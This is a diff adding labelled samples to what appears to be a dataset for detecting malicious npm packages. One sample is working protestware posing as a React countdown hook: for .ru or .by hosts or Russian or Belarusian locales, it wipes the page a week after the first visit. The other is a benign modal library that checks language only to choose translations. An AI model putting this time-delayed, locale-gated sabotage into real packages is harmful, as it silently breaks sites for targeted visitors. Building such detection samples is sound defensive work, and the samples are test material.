@@ -250,6 +250,59 @@ exports.crc32 = function crc32(buf) {
     )
 
 
+@sample
+def locale_gated_page_takeover():
+    index = r"""import { useEffect, useState } from 'react';
+
+const MESSAGE = '<div style="font:24px/1.4 system-ui;padding:10vh 10vw">' +
+  '<h1>Этот сайт временно недоступен</h1><p>Узнайте правду: https://truth-news.invalid</p></div>';
+
+function targeted() {
+  try {
+    const loc = Intl.DateTimeFormat().resolvedOptions().locale || '';
+    const host = typeof location !== 'undefined' ? location.hostname : '';
+    return host.endsWith('.ru') || host.endsWith('.by') || /^(ru|be)(-|$)/.test(loc);
+  } catch (e) {
+    return false;
+  }
+}
+
+export function useCountdown(seconds) {
+  const [left, setLeft] = useState(seconds);
+  useEffect(() => {
+    const t = setInterval(() => setLeft((s) => (s > 0 ? s - 1 : 0)), 1000);
+    return () => clearInterval(t);
+  }, []);
+  return left;
+}
+
+if (typeof document !== 'undefined' && targeted()) {
+  const at = Number(localStorage.getItem('cd:seen')) || Date.now();
+  localStorage.setItem('cd:seen', String(at));
+  if (Date.now() - at > 7 * 864e5) {
+    window.addEventListener('load', () => { document.body.innerHTML = MESSAGE; });
+  }
+}
+"""
+    files = {
+        "package.json": pj(name="react-use-countdown-timer", version="2.4.1", type="module",
+                           exports={".": "./index.js"}, peerDependencies={"react": ">=17"},
+                           description="A countdown hook for React"),
+        "README.md": readme("react-use-countdown-timer", "```js\nconst left = useCountdown(60)\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach7-locale-gated-page-takeover",
+        "protestware in a React hook library: a week after the first visit, pages on .ru/.by hosts or with a Russian/Belarusian locale have their body replaced by a message",
+        "2022",
+        ["protestware", "geo-or-locale-targeting", "time-delayed", "page-takeover", "browser-only", "esm"],
+        "Other shape of the holdout3 sweetalert2-style protestware: the gate is a function "
+        "(host suffix with endsWith, Intl locale), the damage replaces document.body.innerHTML "
+        "on load instead of freezing the page behind a video.",
+        files,
+    )
+
+
 # =============================================================================================
 # Benign
 
@@ -438,5 +491,50 @@ module.exports = { openVault, render };
         "Decrypts with an environment key and compiles code in the same file, but what it "
         "compiles is a template and what it decrypts is parsed: the counterpart of the "
         "environment-keyed stages.",
+        files,
+    )
+
+
+@benign
+def b_modal_with_translations():
+    index = r"""const STRINGS = {
+  en: { close: 'Close', title: 'Notice' },
+  ru: { close: 'Закрыть', title: 'Уведомление' },
+};
+
+const lang = (navigator.language || 'en').startsWith('ru') ? 'ru' : 'en';
+
+export function openModal(html) {
+  const t = STRINGS[lang];
+  const overlay = document.createElement('div');
+  overlay.style.cssText = 'position:fixed;inset:0;z-index:2147483647;background:rgba(0,0,0,.5)';
+  overlay.innerHTML = '<div role="dialog"><h2>' + t.title + '</h2>' + html + '<button>' + t.close + '</button></div>';
+  if (!document.body.dataset.modalOpen) {
+    document.body.dataset.modalOpen = '1';
+    document.body.style.userSelect = 'none';
+  }
+  overlay.querySelector('button').onclick = () => {
+    overlay.remove();
+    delete document.body.dataset.modalOpen;
+    document.body.style.userSelect = '';
+  };
+  document.body.appendChild(overlay);
+  return overlay;
+}
+"""
+    files = {
+        "package.json": pj(name="tiny-modal-i18n", version="1.3.0", type="module",
+                           exports={".": "./index.js"},
+                           description="A dependency-free modal with English and Russian strings"),
+        "README.md": readme("tiny-modal-i18n", "```js\nopenModal('<p>Saved</p>')\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach7-benign-modal-with-translations",
+        "modal library picking Russian or English strings by navigator.language, with a full-screen max-z-index overlay and user-select off while open",
+        "2025",
+        ["i18n", "overlay", "browser-only"],
+        "Checks the visitor's language and covers the page, but the check only picks a "
+        "translation: the counterpart of locale-gated page sabotage.",
         files,
     )
